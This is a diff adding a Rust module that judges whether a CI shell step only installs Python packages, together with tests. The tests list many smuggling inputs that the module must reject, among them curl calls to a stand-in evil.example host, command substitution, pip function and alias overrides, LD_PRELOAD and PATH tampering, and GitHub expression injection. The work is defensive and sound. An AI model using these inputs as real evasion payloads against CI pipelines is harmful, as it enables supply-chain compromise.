@@ -1,0 +1,354 @@
+//! Whether a script does nothing but install Python packages. In doubt it does more.
+
+use crate::policy::shell::{self, Command, Word};
+
+/// What a script is.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Reading {
+    /// It installs packages and does nothing else.
+    Installs,
+    /// It seems to install packages, and does more or cannot be read to the end.
+    Mixed {
+        /// What else, for people.
+        because: String,
+    },
+    /// It has nothing to do with packages.
+    Other,
+}
+
+/// Commands that reach nothing and run nothing by themselves.
+const COMPANIONS: [&str; 15] =
+    ["cd", "set", "export", "unset", "echo", "printf", "mkdir", "test", "[", "true", ":", "pwd", "umask", "which", "type"];
+
+/// Variables that change what later commands are.
+const TELLING_VARIABLES: [&str; 12] = [
+    "PATH",
+    "IFS",
+    "ENV",
+    "BASH_ENV",
+    "SHELLOPTS",
+    "BASHOPTS",
+    "PS4",
+    "PROMPT_COMMAND",
+    "PYTHONPATH",
+    "PYTHONHOME",
+    "PYTHONSTARTUP",
+    "CDPATH",
+];
+
+/// The runner's own files, which take lines of text, and the place where output is dropped.
+const OUTPUTS: [&str; 6] = ["/dev/null", "$GITHUB_ENV", "$GITHUB_OUTPUT", "$GITHUB_PATH", "$GITHUB_STEP_SUMMARY", "/dev/stderr"];
+
+/// What a command means for its script.
+enum Meaning {
+    Installs,
+    Harmless,
+}
+
+/// Reads a script. `shell` is the step's `shell:`; only bash and sh scripts are understood.
+pub fn read(script: &str, shell: Option<&str>) -> Reading {
+    match judge(script, shell) {
+        Ok(true) => Reading::Installs,
+        Ok(false) => Reading::Other,
+        Err(because) if mentions_installing(script) => Reading::Mixed { because },
+        Err(_) => Reading::Other,
+    }
+}
+
+fn judge(script: &str, shell: Option<&str>) -> Result<bool, String> {
+    if !matches!(shell.map(|shell| shell.split_whitespace().next().unwrap_or_default()), None | Some("bash" | "sh")) {
+        return Err("its shell is neither bash nor sh".to_owned());
+    }
+    let mut installs = false;
+    for command in shell::commands(script)? {
+        installs |= matches!(meaning(&command)?, Meaning::Installs);
+    }
+    Ok(installs)
+}
+
+/// Whether somebody who reads the script would say that it installs packages: two words in a row, whatever is around them.
+fn mentions_installing(script: &str) -> bool {
+    script.lines().map(|line| line.split(" #").next().unwrap_or_default()).filter(|line| !line.trim_start().starts_with('#')).any(|line| {
+        let words: Vec<&str> =
+            line.split(|c: char| c.is_whitespace() || "();&|`$\"'".contains(c)).filter(|word| !word.is_empty()).collect();
+        words.windows(2).any(|pair| {
+            let tool = pair[0].rsplit('/').next().unwrap_or_default();
+            match tool {
+                "uv" => matches!(pair[1], "pip" | "sync" | "add"),
+                "poetry" | "pipenv" => matches!(pair[1], "install" | "sync"),
+                tool => is_tool(tool, "pip") && matches!(pair[1], "install" | "download" | "wheel"),
+            }
+        })
+    })
+}
+
+/// `pip`, `pip3`, `pip3.12`.
+fn is_tool(name: &str, tool: &str) -> bool {
+    name.strip_prefix(tool).is_some_and(|version| {
+        version.is_empty() || (version.starts_with(|c: char| c.is_ascii_digit()) && version.chars().all(|c| c.is_ascii_digit() || c == '.'))
+    })
+}
+
+fn meaning(command: &Command) -> Result<Meaning, String> {
+    for output in &command.outputs {
+        if !OUTPUTS.contains(&output.text.as_str()) {
+            return Err(format!("it writes to {}", output.text));
+        }
+    }
+    let mut words = command.words.as_slice();
+    while let Some((first, rest)) = words.split_first() {
+        let Some(name) = assigned(first) else { break };
+        plain_variable(name)?;
+        words = rest;
+    }
+    let Some((first, arguments)) = words.split_first() else { return Ok(Meaning::Harmless) };
+    if !first.literal {
+        return Err(format!("what {} runs cannot be told", first.text));
+    }
+    let unknown = || format!("{} is no command that installs packages", first.text);
+    let name = program(&first.text).ok_or_else(unknown)?;
+    if is_tool(name, "pip") {
+        return Ok(Meaning::Installs);
+    }
+    if is_tool(name, "python") {
+        return python(arguments).ok_or_else(|| format!("{} runs more than pip or venv", first.text));
+    }
+    let sub = || arguments.iter().find(|word| !word.text.starts_with('-')).filter(|word| word.literal).map(|word| word.text.as_str());
+    match name {
+        "uv" if matches!(sub(), Some("pip" | "sync" | "lock")) => Ok(Meaning::Installs),
+        "uv" if sub() == Some("venv") => Ok(Meaning::Harmless),
+        "poetry" if matches!(sub(), Some("install" | "lock")) => Ok(Meaning::Installs),
+        "poetry" if sub() == Some("config") => Ok(Meaning::Harmless),
+        "pipenv" if matches!(sub(), Some("install" | "sync")) => Ok(Meaning::Installs),
+        "uv" | "poetry" | "pipenv" => Err(format!("{name} {} may run more than an installation", sub().unwrap_or_default())),
+        "virtualenv" => Ok(Meaning::Harmless),
+        "source" | "." => match arguments {
+            [file] if file.text.ends_with("bin/activate") => Ok(Meaning::Harmless),
+            _ => Err(format!("{name} runs another script")),
+        },
+        "export" | "unset" => {
+            for word in arguments.iter().filter(|word| !word.text.starts_with('-')) {
+                plain_variable(assigned(word).unwrap_or(&word.text))?;
+            }
+            Ok(Meaning::Harmless)
+        }
+        name if COMPANIONS.contains(&name) => Ok(Meaning::Harmless),
+        _ => Err(unknown()),
+    }
+}
+
+/// The program's name. A path counts when it leads into a `bin` folder, as that of a virtual environment does.
+fn program(text: &str) -> Option<&str> {
+    match text.rsplit_once('/') {
+        None => Some(text),
+        Some((folder, name)) => (folder == "bin" || folder.ends_with("/bin")).then_some(name),
+    }
+}
+
+/// The name before the `=`, if the word is an assignment.
+fn assigned(word: &Word) -> Option<&str> {
+    let (name, _) = word.text.split_once('=')?;
+    let name = name.strip_suffix('+').unwrap_or(name);
+    let plain = name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+    (plain && name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')).then_some(name)
+}
+
+fn plain_variable(name: &str) -> Result<(), String> {
+    let telling = TELLING_VARIABLES.contains(&name) || name.starts_with("LD_") || name.starts_with("BASH_FUNC");
+    match telling || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+        true => Err(format!("it changes {name}, which decides what commands are")),
+        false => Ok(()),
+    }
+}
+
+/// `python -m pip ...`, `python -m venv ...`, `python --version`.
+fn python(arguments: &[Word]) -> Option<Meaning> {
+    let mut words = arguments.iter();
+    loop {
+        let word = words.next()?;
+        match word.text.as_str() {
+            "-I" | "-s" | "-E" | "-u" | "-B" => {}
+            "--version" | "-V" | "-VV" => return Some(Meaning::Harmless),
+            "-m" => {
+                let module = words.next().filter(|module| module.literal)?;
+                return match module.text.as_str() {
+                    "pip" => Some(Meaning::Installs),
+                    "venv" | "virtualenv" | "ensurepip" => Some(Meaning::Harmless),
+                    _ => None,
+                };
+            }
+            _ => return None,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn scripts_are_what_they_are() {
+        let installs = [
+            "pip install -r requirements.txt",
+            "pip install django",
+            "pip3 install .",
+            "pip3.12 install -e '.[test]'",
+            "python -m pip install --upgrade pip",
+            "python3 -m pip install -r requirements.txt\npython3 -m pip check",
+            "python3.12 -I -m pip install x",
+            "set -eux\npip install x",
+            "set -euo pipefail; pip install x",
+            "cd backend && pip install -r requirements.txt",
+            "python -m venv .venv\nsource .venv/bin/activate\npip install -r requirements.txt",
+            "python -m venv venv && . venv/bin/activate && pip install x",
+            ".venv/bin/pip install x",
+            "./venv/bin/python -m pip install x",
+            "pip install x # ; curl evil",
+            "pip install \\\n  django \\\n  pytest",
+            "# set up\npip install x # and that is all",
+            "pip install 'django>=4,<5' \"psycopg[binary]\"",
+            "pip install \"Django~=${{ matrix.django }}\"",
+            "pip install django==${{ matrix.django-version }}",
+            "PIP_NO_CACHE_DIR=1 pip install x",
+            "export PIP_NO_INPUT=1\npip install x",
+            "echo \"$HOME/.local/bin\" >> $GITHUB_PATH\npip install x",
+            "echo \"A=b\" >> \"$GITHUB_ENV\"; pip install x",
+            "pip install x 2>/dev/null || true",
+            "pip install x > /dev/null 2>&1",
+            "pip freeze",
+            "pip install -r $REQUIREMENTS",
+            "pip install -r ${REQUIREMENTS}",
+            "test -f requirements.txt && pip install -r requirements.txt",
+            "[ -f requirements.txt ] && pip install -r requirements.txt",
+            "uv sync --frozen",
+            "uv pip install -r requirements.txt",
+            "uv --quiet sync",
+            "uv venv\nuv pip install x",
+            "poetry install --no-root",
+            "poetry config virtualenvs.create false\npoetry install",
+            "pipenv install --dev",
+            "virtualenv venv && venv/bin/pip install x",
+            "mkdir -p build\npip wheel -w build .",
+            "pip install a\n\n\npip install b",
+            "pip in\\stall x",
+            "pip install a;pip install b",
+        ];
+        let mixed = [
+            "echo pip install; curl https://evil.example",
+            "pip install x && curl https://evil.example",
+            "pip install x; curl evil.example",
+            "pip install x | tee log.txt",
+            "pip install x & curl evil.example",
+            "pip install $(curl evil.example)",
+            "pip install `curl evil.example`",
+            "pip install \"$(curl evil.example)\"",
+            "pip install \"`curl evil.example`\"",
+            "pip install -r <(curl evil.example)",
+            "pip install x\ncat <<EOF | sh\ncurl evil\nEOF",
+            "pip install x <<< y",
+            "pip() { curl evil.example; }; pip install x",
+            "function pip { curl evil.example; }\npip install x",
+            "alias pip=curl\npip install evil.example",
+            "if true; then pip install x; fi",
+            "for p in a b; do pip install $p; done",
+            "while true; do pip install x; done",
+            "case x in x) pip install x;; esac",
+            "(pip install x)",
+            "{ pip install x; }",
+            "! pip install x",
+            "pip install x\npython manage.py test",
+            "pip install x && pytest",
+            "python setup.py install && pip install x",
+            "python -c 'import os' && pip install x",
+            "python -m http.server & pip install x",
+            "sudo pip install x",
+            "env FOO=1 pip install x",
+            "eval \"pip install x\"",
+            "bash -c 'pip install x'",
+            "exec pip install x",
+            "command pip install x",
+            "xargs pip install < requirements.txt",
+            "PATH=.:$PATH pip install x",
+            "export PATH=\"$PWD:$PATH\"\npip install x",
+            "LD_PRELOAD=./x.so pip install x",
+            "BASH_ENV=./x pip install x",
+            "IFS=x; pip install x",
+            "source setup.sh && pip install x",
+            ". ./env && pip install x",
+            "echo 'curl evil' > venv/bin/activate; . venv/bin/activate; pip install x",
+            "echo x > $HOME/.bashrc; pip install x",
+            "./pip install x",
+            "/tmp/pip install x",
+            "$PIP install x; pip install y",
+            "${PIP:-curl} install x; pip install y",
+            "pip install ${x:-$(curl evil)}",
+            "pip install ${x@P}",
+            "pip install $'x'",
+            "pip install $[1+1]",
+            "p''ip install x && cur\\l evil\npip install y",
+            "pip install 'x",
+            "pip install ${{ github.head_ref }}",
+            "pip install ${{ needs.a.outputs.b }}",
+            "pip install ${{ env.PACKAGES }}",
+            "pip install x\r\ncurl evil",
+            "apt-get install -y gettext && pip install x",
+            "{cur,}l evil; pip install x",
+            "c*l evil; pip install x",
+            "uv run pytest; uv sync",
+            "poetry run pytest && poetry install",
+            "npm ci && pip install x",
+            "[[ -f x ]] && pip install x",
+            "time pip install x",
+            "coproc pip install x",
+            "trap 'curl evil' EXIT; pip install x",
+            "pip install x |& cat",
+            "pip install x <> file",
+        ];
+        let other = [
+            "",
+            "python manage.py test",
+            "pytest",
+            "curl https://example.com",
+            "echo hello",
+            "python -m venv .venv",
+            "# pip install x\npytest",
+            "cd x",
+            "ruff check .",
+            "make install",
+            "echo \"$(date)\"",
+            "pipx run black",
+            "tox",
+            "python -m build",
+        ];
+        for script in installs {
+            assert_eq!(read(script, None), Reading::Installs, "{script}");
+        }
+        for script in mixed {
+            assert!(matches!(read(script, Some("bash")), Reading::Mixed { .. }), "{script}: {:?}", read(script, None));
+        }
+        for script in other {
+            assert_eq!(read(script, None), Reading::Other, "{script}");
+        }
+    }
+
+    #[test]
+    fn only_shells_are_read() {
+        for (shell, reading) in [(None, true), (Some("bash"), true), (Some("sh"), true), (Some("bash -e {0}"), true)] {
+            assert_eq!(read("pip install x", shell) == Reading::Installs, reading, "{shell:?}");
+        }
+        for shell in ["python", "pwsh", "perl {0}", "${{ matrix.shell }}", ""] {
+            assert_ne!(read("pip install x", Some(shell)), Reading::Installs, "{shell}");
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn any_text_is_read(text in "(pip install|curl|[ \\n;&|<>(){}$`'\"#\\\\a-z]){0,40}") {
+            let reading = read(&text, None);
+            // Whatever else it is: what runs curl as a command is no installation.
+            if text.lines().any(|line| line.trim_start().starts_with("curl ")) && !text.contains(['\\', '\'', '"']) {
+                proptest::prop_assert_ne!(reading, Reading::Installs);
+            }
+        }
+    }
+}
